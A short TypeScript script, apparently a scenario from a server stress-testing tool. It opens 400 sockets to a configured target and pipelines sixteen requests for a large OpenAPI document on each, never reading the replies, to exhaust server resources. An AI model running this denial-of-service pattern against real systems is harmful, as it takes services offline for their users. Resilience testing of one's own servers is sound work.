/** Strangers that ask for the largest document there is, sixteen times on each of 400 sockets, and read nothing of it. */
import { attack, head, readTarget } from './sockets.ts';

const target = readTarget();
const asking = Buffer.from(head(target, 'GET /api/v1/openapi.json').repeat(16), 'latin1');

await attack(target, { sockets: 400, reads: false, begin: (_, write) => write(asking) });
